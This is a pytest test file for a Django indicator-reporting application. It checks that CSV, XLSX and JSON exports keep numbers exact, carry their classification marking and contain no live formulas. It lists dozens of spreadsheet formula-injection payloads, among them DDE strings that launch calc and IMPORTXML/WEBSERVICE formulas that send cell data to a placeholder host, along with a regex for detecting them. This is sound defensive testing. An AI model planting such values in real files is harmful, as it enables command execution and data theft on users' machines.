"""Files: the same numbers as the screen, and nothing in them that runs."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date
from decimal import Decimal
from html import unescape

import pytest
from django.utils import timezone
from python_calamine import CalamineWorkbook

from indicators.reports import cells
from indicators.reports.doors import table_for
from indicators.reports.exports import plain_number, write_csv, write_json, write_xlsx
from indicators.reports.tables import Column, Kind, Row, Table
from indicators.spreadsheets import safe_text
from tests import factories as make
from tests.reports.test_pages import recent_programme
from tests.world import make_world

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")", "+1+1", "+cmd|' /C calc'!A0", "-1+1",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@SUM(A1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1",
    " =1+1", "   +1", "\u00a0=1+1", "\u00a0\u00a0-1+1", "\u200b=1+1", "\u200e=1+1", "\u2060@SUM(1)", "\ufeff=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "safe\n=1+1", "safe\r\n+1+1", "safe\r@SUM(1)",
    "safe\n  =1+1", "safe\u2028=1+1", "\x00=1+1", "\x0b=1+1", "\x1f=1+1", "=\u202e1+1", "\u202e=1+1", "\u00ad=1+1",
    "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")", "{=1+1}\n=2", "=1+1\t", "\t", "\r",
    "=\"a\"&\"b\"", "-", "+", "=", "@", "\u2212=1", "\u3000=1+1", "\u2003@A1", "a,b\n;=1+1\n=2", "\"=1+1", "'\n=1+1",
    "\ufe62" + "1+1", "\ufe66" + "1+1", "=1+1" * 9000,
]  # fmt: skip
DANGEROUS = re.compile(
    r"^[\s\u00ad\u200b-\u200f\u2028-\u202f\u2060-\u2069\ufeff]*[=+\-@＝＋－＠\u2212\ufe62\ufe63\ufe66\ufe6b]"
)


def a_table(texts=(), numbers=()):
    rows = [Row(cells={"text": cells.words(text), "number": cells.number(Decimal("-1.5"))}) for text in texts]
    rows += [Row(cells={"number": cells.number(number)}) for number in numbers]
    columns = [
        Column(key="text", header="=Text"),
        Column(key="number", header="Number", kind=Kind.NUMBER),
    ]
    return Table(
        name="test", key="../../x", title="=Title", columns=columns, rows=rows, as_of=date(2026, 1, 1)
    )


def read_csv(data: bytes):
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_there_are_more_than_forty_payloads():
    assert len(set(PAYLOADS)) > 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_a_csv_can_begin_a_formula(payload):
    header, line = read_csv(write_csv(a_table([payload]), by="x", at=timezone.now()))

    for cell in (header[0], line[0]):
        for piece in re.split(r"[\r\n\u2028\u2029]", cell):
            assert not DANGEROUS.match(piece), repr(piece)
        assert not cell.startswith(("\t", "\r", "\n"))
        assert "\x00" not in cell
    assert line[1] == "-1.5"


def test_no_cell_of_an_xlsx_is_a_formula_or_a_link():
    data = write_xlsx(a_table(PAYLOADS, [Decimal("-3"), Decimal(0), None]), by="=EVIL()", at=timezone.now())

    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            text = book.read(name).decode("utf-8", "replace")
            assert "<f>" not in text, name
            assert "<f " not in text, name
            assert "<hyperlink" not in text, name
            assert "externalLink" not in text, name
    sheets = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert sheets.sheet_names == ["Data", "About"]
    rows = sheets.get_sheet_by_name("Data").to_python(skip_empty_area=False)
    assert rows[0][0] == "NATO UNCLASSIFIED"
    assert [row[1] for row in rows[-3:]] == [-3.0, 0.0, ""]
    about = dict(row[:2] for row in sheets.get_sheet_by_name("About").to_python())
    assert about["Made by"] == "=EVIL()"
    assert "Method version" in about
    assert "As of" in about


def test_a_plain_text_stays_as_it_is():
    for text in ("Border posts", "a = b", "3-4", "50 %", "e@x", "Ångström", "العربية", "NA", "it's"):
        assert safe_text(text) == text


def test_numbers_keep_all_their_digits_and_their_sign():
    assert plain_number(Decimal("-0.0000000001")) == "-0.0000000001"
    assert plain_number(Decimal("0E-10")) == "0"
    assert plain_number(Decimal("100.0000000000")) == "100"
    assert plain_number(0) == "0"
    assert plain_number(Decimal("1E+3")) == "1000"


def test_file_names_are_harmless():
    assert a_table().file_name == "test-------x-2026-01-01"


@pytest.mark.django_db
def test_hostile_names_reach_no_file_as_a_formula(client):
    programme, (indicator,), _periods = recent_programme()
    for payload in PAYLOADS[:12]:
        clean = payload.replace("\x00", "")
        indicator.local_name = clean
        indicator.save(update_fields=["local_name"])
        client.force_login(make.make_admin())
        for name, key in (("programme", programme.code), ("indicator", indicator.pk)):
            for line in read_csv(client.get(f"/export/{name}/{key}.csv").content):
                for cell in line:
                    assert not DANGEROUS.match(cell) or re.fullmatch(r"-?[\d.]+", cell), repr(cell)
            with zipfile.ZipFile(io.BytesIO(client.get(f"/export/{name}/{key}.xlsx").content)) as book:
                assert "<f" not in book.read("xl/worksheets/sheet1.xml").decode().replace("<font", "")


@pytest.mark.django_db
def test_screen_csv_and_xlsx_show_the_same_numbers(client):
    programme, indicators, periods = recent_programme(indicators=3, observations=2)
    make.make_observation(indicators[0], periods[2], numerator=Decimal(17), denominator=Decimal(63))
    from tests.reports.test_pages import with_transaction

    with_transaction([(indicators[0].pk, periods[2].pk)])
    admin = make.make_admin()
    client.force_login(admin)
    table = table_for(admin, "programme", programme.code)

    page = re.sub(r"\s+", " ", unescape(client.get(f"/programmes/{programme.code}/").content.decode()))
    header, *lines = read_csv(client.get(f"/export/programme/{programme.code}.csv").content)
    book = CalamineWorkbook.from_filelike(
        io.BytesIO(client.get(f"/export/programme/{programme.code}.xlsx").content)
    )
    sheet = book.get_sheet_by_name("Data").to_python(skip_empty_area=False)
    assert header[-1] == "Made at"
    start = sheet.index(header[:-1])
    assert len(lines) == len(table.rows) == len(sheet) - start - 1
    for row, line, xlsx in zip(table.rows, lines, sheet[start + 1 :], strict=True):
        for column, as_csv, as_xlsx in zip(table.columns, line, xlsx, strict=False):
            cell = row.cells[column.key]
            if cell.value is None:
                assert as_csv == ""
                assert as_xlsx in ("", None)
            elif column.kind is Kind.NUMBER:
                assert Decimal(as_csv) == Decimal(cell.value)
                assert as_xlsx == pytest.approx(float(cell.value), abs=1e-12)
            if column.key in {"value", "target", "achievement"} and cell.value is not None:
                assert cell.text.replace("\xa0", " ") in page.replace("\xa0", " ")


@pytest.mark.django_db
def test_every_export_has_its_marking_its_rows_and_its_about_sheet(client):
    world = make_world()
    client.force_login(world.people["officer"])
    own = world.own
    for name, key in (
        ("portfolio", "all"),
        ("region", "all"),
        ("programme", own.programme.code),
        ("indicator", own.indicator.pk),
        ("observations", own.indicator.pk),
        ("assessment", own.run.pk),
    ):
        response = client.get(f"/export/{name}/{key}.xlsx")
        assert re.fullmatch(r'attachment; filename="[a-z0-9-]+\.xlsx"', response["Content-Disposition"])
        book = CalamineWorkbook.from_filelike(io.BytesIO(response.content))
        rows = book.get_sheet_by_name("Data").to_python(skip_empty_area=False)
        assert rows[0][0].startswith("NATO UNCLASSIFIED")
        lines = read_csv(client.get(f"/export/{name}/{key}.csv").content)
        assert lines[0][:-1] in rows
        assert len(lines) > 1, name
        assert all(line[-3] == "NATO UNCLASSIFIED" for line in lines[1:])
        assert all(re.fullmatch(r"20\d\d-\d\d-\d\d \d\d:\d\d UTC", line[-1]) for line in lines[1:])


def test_json_keeps_numbers_days_and_what_is_missing():
    table = a_table(["=1+1"], [Decimal("-3"), Decimal("0.125"), Decimal(0), None])

    found = json.loads(write_json(table, by="=EVIL()", at=timezone.now()))

    assert [row["number"] for row in found["rows"]] == [-1.5, -3, 0.125, 0, None]
    assert found["rows"][0]["text"] == "=1+1"
    assert found["marking"] == "NATO UNCLASSIFIED"
    assert found["as_of"] == "2026-01-01"
    assert found["made_at"].endswith("+00:00")
    assert [one["kind"] for one in found["columns"]] == ["text", "number"]


@pytest.mark.django_db
def test_csv_and_json_of_a_programme_say_the_same(client):
    world = make_world()
    client.force_login(world.people["officer"])
    for name, key in (("programme", world.own.programme.code), ("observations", world.own.indicator.pk)):
        header, *lines = read_csv(client.get(f"/export/{name}/{key}.csv").content)
        found = json.loads(client.get(f"/export/{name}/{key}.json").content)
        assert header[:-3] == [one["header"] for one in found["columns"]]
        assert len(lines) == len(found["rows"]) > 0
        for line, row in zip(lines, found["rows"], strict=True):
            for column, text in zip(found["columns"], line, strict=False):
                value = row[column["key"]]
                if value is None:
                    assert text == ""
                elif column["kind"] == "number":
                    assert float(text) == pytest.approx(value, abs=1e-12)


@pytest.mark.django_db
def test_the_portfolio_file_follows_the_filters_of_the_page(client):
    make.make_programme("ONE", framework="NMI")
    make.make_programme("TWO", framework="MD")
    client.force_login(make.make_admin())
    assert (
        'href="/export/portfolio/all.xlsx?framework=MD'
        in client.get("/portfolio/?framework=MD").content.decode()
    )
    lines = read_csv(client.get("/export/portfolio/all.csv?framework=MD").content)
    assert [line[0] for line in lines[1:]] == ["TWO"]


@pytest.mark.django_db
def test_a_partner_viewers_file_says_to_whom_it_is_releasable(client):
    world = make_world()
    client.force_login(world.people["partner"])
    response = client.get(f"/export/programme/{world.own.programme.code}.xlsx")
    rows = CalamineWorkbook.from_filelike(io.BytesIO(response.content)).get_sheet_by_name("Data").to_python()
    assert rows[0][0] == "NATO UNCLASSIFIED · Releasable to Country IRQ"
